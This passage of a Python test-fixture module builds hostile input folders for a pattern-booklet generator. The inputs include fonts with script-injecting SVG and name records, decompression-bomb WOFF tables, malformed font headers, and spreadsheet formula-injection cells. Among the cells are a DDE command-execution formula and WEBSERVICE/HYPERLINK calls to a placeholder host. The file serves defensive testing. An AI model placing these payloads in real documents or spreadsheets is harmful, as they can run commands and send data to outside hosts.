    entry = struct.pack(">4sIIII", b"OS/2", 64, len(packed), length, 0)
    return head + entry + packed


def font_with(table: bytes) -> bytes:
    """A sound font with a table of drawings, and words of a stranger's as its name."""
    font = TTFont(io.BytesIO(FACES[1].read()))
    font["SVG "] = DefaultTable("SVG ")
    font["SVG "].data = table
    for record in font["name"].names:
        record.string = "</style><script>alert(1)</script>"
    out = io.BytesIO()
    font.save(out)
    return out.getvalue()


FONTS = {
    "drawings in it": font_with(
        b"<svg onload='alert(1)'><image href='http://127.0.0.1:9/f'/></svg>"
    ),
    "words": b"Buy a font.",
    "nothing": b"",
    "html": b"<html><script>alert(1)</script>",
    "a collection": b"ttcf\0\1\0\0\0\0\xff\xff" + b"\0" * 60,
    "tables without end": b"\0\1\0\0\xff\xff" + b"\xff" * 70000,
    "a table that swells": woff(zeros(900_000_000), 900_000_000),
    "a table that lies of its length": woff(zeros(80), 4_000_000_000),
    "outlines of another kind": b"OTTO\0\1" + b"\xff" * 400,
}


def _titled(name: str, data: bytes) -> Hostile:
    """A folder whose titles are set in a font."""
    made = json.loads(source(pages=("cover", "materials")))
    made["booklet"]["look"] = {"title font": "font.ttf"}
    return Hostile(
        f"font: {name}", {"pattern.yaml": json.dumps(made), "font.ttf": data}, in_print=True
    )


CELLS = {
    "sum": "=1+1",
    "call": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://@L/c","x")',
    "fetch": '=WEBSERVICE("http://@L/c")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "behind a space": " =1+1",
    "behind a semicolon": "x;=1+1;y",
    "behind a quote": '","=1+1","',
    "full width": "\uff1d1+1",
    "behind a bar": "x|=1+1",
    "percent": "%1",
}


def _pictured(name: str, data: bytes) -> Hostile:
    """A folder that shows a picture as cloth, in a text, as a logo and on the cover."""
    cloths = {"ink": {"name": "Ink", "picture": "picture.png"}, "sand": {"name": "Sand"}}
    made = json.loads(source(pages=("cover", "text/a.md", "materials"), fabrics=cloths))
    made["booklet"]["look"]["logo"] = "picture.png"
    made["booklet"]["cover"] = {"picture": "picture.png", "picture text": "x"}
    files = {
        "pattern.yaml": json.dumps(made),
        "text/a.md": "![x](../picture.png)",
        "picture.png": data,
    }
    return Hostile(f"picture: {name}", files, in_print=True)


def _drawn(name: str, drawing: str | bytes) -> Hostile:
    """A folder whose block is a drawing, which a text shows as a picture, too."""
    block = {"b": {"title": "Block", "drawing": "drawing.svg", "size": "2 x 1"}}
    pages = ("cover", "text/a.md", "piecing")
    files = {"pattern.yaml": source(pages=pages, blocks=block), "drawing.svg": drawing}
    files["text/a.md"] = "![x](../drawing.svg)"
    return Hostile(f"drawing: {name}", files)


def _named(name: str, path: str, ending: str) -> Hostile:
    """A folder that names a text, a picture or a drawing in an odd place."""
    path = path.format({"logo": "png", "before": "md"}.get(ending, ending))
    made = json.loads(source())
    booklet = made["booklet"]
    if ending == "md":
        booklet["editions"]["p"]["pages"] = ["cover", path]
    elif ending == "png":
        made["fabrics"]["ink"]["picture"] = path
    elif ending == "svg":
        made["blocks"]["b"] = {"title": "Block", "drawing": path, "size": "2 x 1"}
    else:
        booklet["look"] = {"logo": path} if ending == "logo" else {"before": {"notes": path}}
    pattern = json.dumps(made)
    return Hostile(f"name of {ending}: {name}", {"pattern.yaml": pattern})


def groups() -> dict[str, list[Hostile]]:
    """All folders, by their kind."""
    by_links = source(
        fabrics={"ink": {"name": "I", "picture": "picture.png"}, "sand": {"name": "S"}}
    )
    drawn = source(blocks={"b": {"title": "Block", "drawing": "drawing.svg", "size": "2 x 1"}})
    sources = {"picture": by_links, "drawing": drawn}
    return {
        "words": [
            Hostile(
                f"words: {name}",
                {"pattern.yaml": source(said, ALL_PAGES), "text/a.md": "{{ title }} {{ summary }}"},
                in_print=name in PRINTED,
            )
            for name, said in WORDS.items()
        ],
        "signs": [
            Hostile(
                f"{kind}: {name}",
                {"pattern.yaml": source(said, ascii=True)}
                if kind == "sign"
                else {"text/a.md": f"# A\n\n{said}".encode("utf-8", "surrogatepass")},
            )
            for name, said in SIGNS.items()
            for kind in ("sign", "sign of a text")
        ],
        "markdown": [
            Hostile(
                f"text: {name}", {"text/a.md": text, "text/a.png": png()}, in_print="link" in name
            )
            for name, text in MARKDOWN.items()
        ],
        "templates": [
            Hostile(f"page: {name}", {"pages/notes.html": text}, has_pages=True)
            for name, text in TEMPLATES.items()
        ],
        "styles": [
            Hostile(
                f"style: {name}", {"style.css": text, "font.ttf": b"\0\1\0\0"}, True, in_print=True
            )
            for name, text in STYLES.items()
        ],
        "drawings": [_drawn(*pair) for pair in DRAWINGS.items()],
        "fonts": [_titled(*pair) for pair in FONTS.items()],
        "pictures": [_pictured(*pair) for pair in PICTURES.items()],
        "names": [
            _named(name, path, ending)
            for name, path in NAMES.items()
            for ending in ("md", "png", "svg", "logo", "before")
        ],
        "links": [
            Hostile(f"link: {name}", {"pattern.yaml": sources.get(name, source())} | files, True)
            for name, files in LINKS.items()
        ],
        "odd": [Hostile(f"odd: {name}", files, True) for name, files in ODD.items()],
        "sources": [
            Hostile(f"source: {name}", {"pattern.yaml": said}) for name, said in SOURCES.items()
        ],
        "cells": [
            Hostile(f"cell: {name}", {"pattern.yaml": source(said)}) for name, said in CELLS.items()
        ],
    }
